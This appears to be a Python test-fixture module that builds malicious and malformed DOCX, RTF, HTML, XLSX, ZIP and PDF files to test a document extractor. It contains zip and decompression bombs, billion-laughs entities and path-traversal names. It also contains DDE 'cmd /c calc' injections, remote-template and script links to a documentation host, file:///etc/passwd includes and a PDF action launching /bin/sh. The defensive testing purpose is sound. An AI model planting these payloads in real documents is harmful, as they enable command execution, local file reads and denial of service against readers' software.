"""Files by strangers that mean harm or are damaged, made from a few lines and as small as can be.

Nothing in them is real. `raw_pdf` writes PDF objects as they are given, so that loops and lies are possible.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

import openpyxl
from fpdf import FPDF

from tests.extract.test_word import OFFICE, RELATIONS, TRANSITIONAL, docx, p, pack, tbl, tc, tr

REPORT = "示例一镇2024年政府信息公开工作年度报告"
REMOTE = "http://198.51.100.7/x"  # a network for documentation: nobody answers, and nobody is to be asked
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BODY = p(REPORT) + p("一、总体情况") + tbl(tr(tc("规章"), tc("1")), tr(tc("许可"), tc("20")))
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/main"


def good_docx() -> bytes:
    return docx(BODY)


# ------------------------------------------------------------------ zip


def zeros(name: str, megabytes: int, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with one member of blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as package, package.open(name, "w") as part:
        for _ in range(megabytes):
            part.write(b" " * 1_000_000)
    return out.getvalue()


def with_parts(payload: bytes, parts: dict[str, str | bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(payload)) as package:
        kept: dict[str, str | bytes] = {name: package.read(name) for name in package.namelist()}
    return pack({**kept, **parts})


def zip_of_zips(depth: int = 6, wide: int = 16) -> bytes:
    """Like 42.zip: zips within zips, at the bottom a bomb."""
    inner = zeros("0.txt", 4)
    for _ in range(depth):
        inner = pack({f"{number}.zip": inner for number in range(wide)})
        inner = inner if len(inner) < 100_000 else inner[:100_000]
    return inner


def zip_with_paths() -> bytes:
    """Names that lead out of the folder, were they used as paths."""
    names = (
        "../../../../tmp/nianbao-was-here.txt",
        "/etc/nianbao-was-here.txt",
        "..\\..\\nianbao-was-here.txt",
    )
    return pack({**dict.fromkeys(names, "走"), f"../../../{REPORT}.docx": good_docx()})


def zip_packed_with_a_dictionary() -> bytes:
    """LZMA whose head asks for a dictionary of nearly four gigabytes."""
    out = bytearray(zeros("a.txt", 1, zipfile.ZIP_LZMA))
    at = out.index(b"a.txt") + 5  # version, size of the properties, the properties
    struct.pack_into("<I", out, at + 5, 0xFFFFFF00)
    return bytes(out)


# ------------------------------------------------------------------ docx


def laughs(depth: int = 9) -> str:
    rows = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth + 1)
    )
    return f"<!DOCTYPE x [{rows}]>"


def document_xml(body: str, head: str = "") -> str:
    return f'{head}<w:document xmlns:w="{TRANSITIONAL}"><w:body>{body}</w:body></w:document>'


def docx_of(xml: str | bytes, **parts: str | bytes) -> bytes:
    named = {
        name.replace("__", "/").replace("_rels/document", "_rels/document.xml.rels"): data
        for name, data in parts.items()
    }
    return pack({"_rels/.rels": RELATIONS.format("word/document.xml"), "word/document.xml": xml, **named})


def docx_laughing() -> bytes:
    return docx_of(document_xml("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", laughs()))


def docx_laughing_in_an_attribute() -> bytes:
    return docx_of(document_xml('<w:p w:x="&l9;"><w:r><w:t>x</w:t></w:r></w:p>', laughs()))


def docx_laughing_in_styles() -> bytes:
    return with_parts(good_docx(), {"word/styles.xml": laughs() + '<w:styles w:x="&l9;"/>'})


def docx_quadratic() -> bytes:
    """One long entity, named many times."""
    head = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return docx_of(document_xml(f"<w:p><w:r><w:t>{'&a;' * 100_000}</w:t></w:r></w:p>", head))


def docx_huge(element: str, megabytes: float = 19.5) -> bytes:
    """A body as long as a part may be, of one thing again and again."""
    return docx_of(document_xml(element * int(megabytes * 1_000_000 / len(element.encode()))))


def docx_huge_paragraphs() -> bytes:
    return docx_huge("<w:p/>")


def docx_huge_text() -> bytes:
    return docx_huge("<w:p><w:r><w:t>甲</w:t></w:r></w:p>")


def docx_huge_table() -> bytes:
    rows = "<w:tr>" + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 150 + "</w:tr>"
    return docx_of(document_xml("<w:tbl>" + rows * int(19_000_000 / len(rows)) + "</w:tbl>"))


def docx_tables_in_tables() -> bytes:
    inner = p("底")
    for _ in range(60):
        inner = f"<w:tbl><w:tr><w:tc>{inner}{p('x')}</w:tc><w:tc>{p('y')}</w:tc></w:tr></w:tbl>"
    return docx_of(document_xml(inner * 300))


def docx_boxes_in_boxes() -> bytes:
    inner = p("底")
    for _ in range(70):
        inner = f"<w:p><w:r><w:txbxContent>{inner}</w:txbxContent></w:r></w:p>"
    return docx_of(document_xml(inner * 500))


def png_of(width: int, height: int) -> bytes:
    """A picture of one colour, tiny when packed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 + (width + 7) // 8)) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def relation(key: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def relations_xml(inner: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}">{inner}</Relationships>'


def docx_outside() -> bytes:
    """A remote template, a linked picture, a linked object, a linked text, a link to click, and macros."""
    relations = "".join(
        relation(f"x{n}", kind, f"{REMOTE}{n}")
        for n, kind in enumerate(("image", "oleObject", "aFChunk", "hyperlink", "frame"))
    )
    shown = (
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{DRAWN}" xmlns:r="{OFFICE}" r:link="x0"/></w:drawing></w:r>'
        f'</w:p><w:altChunk xmlns:r="{OFFICE}" r:id="x2"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    template = relation("t", "attachedTemplate", f"{REMOTE}.dotm")
    return with_parts(
        docx(BODY + shown),
        {
            "word/_rels/document.xml.rels": relations_xml(relations),
            "word/_rels/settings.xml.rels": relations_xml(template),
            "word/settings.xml": f'<w:settings xmlns:w="{TRANSITIONAL}"/>',
        },
    )


def docm() -> bytes:
    return with_parts(good_docx(), {"word/vbaProject.bin": OLE + b'Attribute VB_Name = "AutoOpen"'})


# ------------------------------------------------------------------ other Word


def rtf(inner: str = "") -> bytes:
    def spelt(text: str) -> str:
        return "".join(f"\\u{ord(c) if ord(c) < 32768 else ord(c) - 65536}?" for c in text)

    return rf"{{\rtf1\ansi\uc1 {inner}{spelt(REPORT)}\par {spelt('一、总体情况')}\par}}".encode("ascii")


def rtf_outside() -> bytes:
    picture = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{REMOTE}.png" \\d }}{{\fldrslt }}}}'
    text = r'{\field\fldlock0{\*\fldinst INCLUDETEXT "file:///etc/passwd" }{\fldrslt }}'
    linked = r"{\object\objautlink\objupdate\rsltpict{\*\objclass htmlfile}{\*\objdata 01050000}}"
    return rtf(rf"{{\*\template {REMOTE}.dotm}}{picture}{text}{linked}\par ")


def html_outside(link: str = REMOTE) -> bytes:
    return (
        f'<html><head><link rel=stylesheet href="{link}.css"><script src="{link}.js"></script></head><body>'
        f'<img src="{link}.png"><iframe src="{link}"></iframe><object data="file:///etc/passwd"></object>'
        f"<p>{REPORT}</p><p>一、总体情况</p><p>{'正文' * 60}</p></body></html>"
    ).encode()


# ------------------------------------------------------------------ spreadsheets


def xlsx(*rows: Sequence[object]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_xlsx() -> bytes:
    return xlsx([REPORT], ["一、总体情况"], ["信息内容", "本年制发件数"], ["规章", 1], ["许可", 20])


def xlsx_formulas() -> bytes:
    """Numbers that were never worked out, and one that asks another program for its value."""
    return xlsx([REPORT], ["信息内容", "数"], ["规章", "=1+1"], ["许可", "=cmd|'/c calc'!A1"], ["合计", 3])


def xlsx_outside() -> bytes:
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    path = relation("r1", "externalLinkPath", f"{REMOTE}.xlsx")
    return with_parts(
        good_xlsx(),
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations_xml(path),
            "xl/vbaProject.bin": OLE,
        },
    )


def xlsx_many_cells(megabytes: int = 38) -> bytes:
    """A sheet as long as a workbook may be, unpacked."""
    row = "<row>" + "<c><v>1</v></c>" * 180 + "</row>"
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as package:
        sheet = package.read(name).decode()
    head = sheet[: sheet.index("<sheetData>")]
    rows = row * (megabytes * 1_000_000 // len(row))
    return with_parts(good_xlsx(), {name: f"{head}<sheetData>{rows}</sheetData></worksheet>"})


# ------------------------------------------------------------------ PDF


def raw_pdf(objects: Sequence[bytes | str], trailer: str = "/Root 1 0 R") -> bytes:
    """Objects 1, 2, … as given, with a correct table of them."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, data in enumerate(objects, start=1):
        places.append(len(out))
        out += (
            f"{number} 0 obj\n".encode() + (data.encode() if isinstance(data, str) else data) + b"\nendobj\n"
        )
    at = len(out)
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}".encode()
    out += f"trailer<</Size {len(places) + 1}{trailer}>>\nstartxref\n{at}\n%%EOF\n".encode()
    return bytes(out)


def stream(entries: str, data: bytes) -> bytes:
    return f"<<{entries}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def packed(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def packed_again_and_again(block: bytes, times: int) -> bytes:
    """As the block packed as often as that would be, but packed once. Its sum of checking is left out."""
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (times - 1) + packer.flush()


CATALOG = "<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<{}>>>>"
FONT = "/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
WORDS = b"BT /F1 12 Tf 72 720 Td (Report 2024) Tj ET "
DIGITS = b"BT /F1 12 Tf 72 720 Td (1) Tj ET "  # a text layer of letters alone would be recognised anew


def pdf_of(*content: bytes | str, resources: str = FONT) -> bytes:
    """A page of the given content stream object, and further objects from 5 on."""
    return raw_pdf([CATALOG, ONE_PAGE, PAGE.format(resources), *content])


def pdf_plain() -> bytes:
    return pdf_of(stream("", WORDS))


def pdf_ten_thousand_pages() -> bytes:
    kids = " ".join(f"{n + 4} 0 R" for n in range(10_000))
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<<" + FONT + ">>>>"
    return raw_pdf(
        [CATALOG, f"<</Type/Pages/Kids[{kids}]/Count 10000>>", stream("", DIGITS), *[page] * 10_000]
    )


def pdf_ten_thousand_by_name() -> bytes:
    """One page, named ten thousand times by nodes that are named again and again."""
    page = "<</Type/Page/MediaBox[0 0 595 842]/Contents 6 0 R/Resources<<" + FONT + ">>>>"
    return raw_pdf(
        [
            CATALOG,
            f"<</Type/Pages/Kids[{'3 0 R ' * 100}]/Count 10000>>",
            f"<</Type/Pages/Kids[{'5 0 R ' * 100}]/Count 100>>",
            "null",
            page,
            stream("", DIGITS),
        ]
    )


def pdf_count_lies() -> bytes:
    return raw_pdf(
        [CATALOG, ONE_PAGE.replace("/Count 1", "/Count 2000000000"), PAGE.format(FONT), stream("", WORDS)]
    )


def pdf_pages_in_a_loop() -> bytes:
    return raw_pdf(
        [CATALOG, "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 5>>", PAGE.format(FONT), stream("", WORDS)]
    )


def pdf_stream_bomb(megabytes: int = 1000) -> bytes:
    """A page's drawing that unpacks to a gigabyte of blanks; packed twice it has two kilobytes."""
    data = packed_again_and_again(b" " * 1_000_000, megabytes)
    return pdf_of(stream("/Filter[/FlateDecode/FlateDecode]", packed(data)))


def pdf_stream_refers_to_itself() -> bytes:
    return pdf_of("<</Length 4 0 R/Filter/FlateDecode>>stream\nxx\nendstream")


def pdf_form_in_itself() -> bytes:
    form = stream(
        "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X0 5 0 R>>>>", b"/X0 Do /X0 Do "
    )
    return pdf_of(stream("", b"/X0 Do " + WORDS), form, resources=FONT + "/XObject<</X0 5 0 R>>")


def pdf_xref_in_a_loop() -> bytes:
    plain = pdf_plain()
    at = plain.rindex(b"xref\n0")
    return plain.replace(b"trailer<<", f"trailer<</Prev {at}".encode())


def pdf_nested(depth: int = 100_000) -> bytes:
    """Arrays within arrays."""
    return raw_pdf(
        [CATALOG, ONE_PAGE, PAGE.format(FONT + "/Deep " + "[" * depth + "]" * depth), stream("", WORDS)]
    )


def pdf_image_bomb(side: int = 60_000) -> bytes:
    """A scan whose picture has billions of points."""
    data = packed_again_and_again(bytes(side // 8 * 100), side // 100)
    image = stream(
        f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/BitsPerComponent 1/ColorSpace/DeviceGray"
        "/Filter[/FlateDecode/FlateDecode]",
        packed(data),
    )
    return pdf_of(stream("", b"q 595 0 0 842 0 0 cm /I Do Q"), image, resources="/XObject<</I 5 0 R>>")


def pdf_vast_sheet() -> bytes:
    objects = [
        CATALOG,
        ONE_PAGE,
        PAGE.format(FONT).replace("595 842", "99999999 99999999"),
        stream("", WORDS),
    ]
    return raw_pdf(objects)


def pdf_outside() -> bytes:
    """A script, a program to start, a page elsewhere, a stream that lies in another file, a file within."""
    catalog = (
        '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("' + REMOTE + '"\\))>>'
        "/AA<</WC<</S/Launch/F(/bin/sh)>>>>"
        "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>"
        "/EmbeddedFiles<</Names[(a.docx)<</Type/Filespec/F(a.docx)/EF<</F 6 0 R>>>>]>>>>>>"
    )
    page = PAGE.format(FONT + "/XObject<</I 5 0 R>>").replace(
        "/MediaBox", f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({REMOTE})>>>>]/MediaBox"
    )
    image = stream(
        f"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray"
        f"/F<</FS/URL/F({REMOTE}.png)>>",
        b"",
    )
    inside = stream("/Type/EmbeddedFile", good_docx())
    return raw_pdf([catalog, ONE_PAGE, page, stream("", WORDS + b"q 9 0 0 9 0 0 cm /I Do Q"), image, inside])


def pdf_locked(*, user: str | None) -> bytes:
    """With an owner's password, and with a user's where one is given."""
    pdf = FPDF()
    pdf.set_encryption("owner", user)
    pdf.add_page()
    pdf.set_font("Helvetica")
    pdf.text(20, 20, "Report 2024")
    return bytes(pdf.output())
